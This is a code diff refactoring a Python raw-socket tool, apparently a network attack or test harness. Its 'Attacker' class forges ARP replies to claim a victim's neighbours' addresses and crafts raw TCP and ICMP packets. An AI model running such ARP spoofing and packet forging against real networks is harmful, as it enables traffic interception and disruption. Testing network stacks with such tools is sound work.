@@ -9,28 +9,10 @@ import struct
 import threading
 import time
 
-from frames import ICMP, UDP, checksum, ipv4
+from frames import ACK, ICMP, PSH, RST, SYN, TCP, UDP, checksum, ipv4, tcp
 
 MAC = bytes.fromhex("020000000a01")
-FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
-TCP = 6
 MAX_RATE = 5000  # packets a second
-
-
-def packed(address):
-    return socket.inet_aton(address)
-
-
-def tcp(source, destination, from_port, to_port, seq, ack, flags, data=b"", window=65535, options=b""):
-    options += b"\1" * (-len(options) % 4)
-    head = struct.pack(
-        "!HHIIBBHHH", from_port, to_port, seq % 2**32, ack % 2**32, (20 + len(options)) // 4 << 4, flags,
-        window, 0, 0,
-    )  # fmt: skip
-    body = head + options + data
-    pseudo = packed(source) + packed(destination) + struct.pack("!BBH", 0, TCP, len(body))
-    body = body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]
-    return ipv4(source, destination, TCP, body)
 
 
 def icmp(source, destination, kind, code, rest, quoted):
@@ -131,8 +113,8 @@ class Attacker:
 
     def arp(self, kind, to, sender, target, target_mac):
         self.socket.send(
-            to + MAC + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, kind) + MAC + packed(sender) + target_mac
-            + packed(target)
+            to + MAC + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, kind) + MAC + socket.inet_aton(sender) + target_mac
+            + socket.inet_aton(target)
         )  # fmt: skip
 
     def ask_address(self):
@@ -140,7 +122,7 @@ class Attacker:
 
     def listen(self):
         self.socket.settimeout(0.2)
-        ours = {packed(address): address for address in self.addresses}
+        ours = {socket.inet_aton(address): address for address in self.addresses}
         while self.going:
             try:
                 frame, where = self.socket.recvfrom(70_000)
@@ -149,7 +131,7 @@ class Attacker:
             if where[2] == socket.PACKET_OUTGOING:
                 continue
             kind = frame[12:14]
-            if kind == b"\x08\x06" and frame[28:32] == packed(self.victim):
+            if kind == b"\x08\x06" and frame[28:32] == socket.inet_aton(self.victim):
                 self.mac = frame[22:28]
                 if frame[21] == 1 and frame[38:42] in ours:
                     self.arp(2, self.mac, ours[frame[38:42]], self.victim, self.mac)
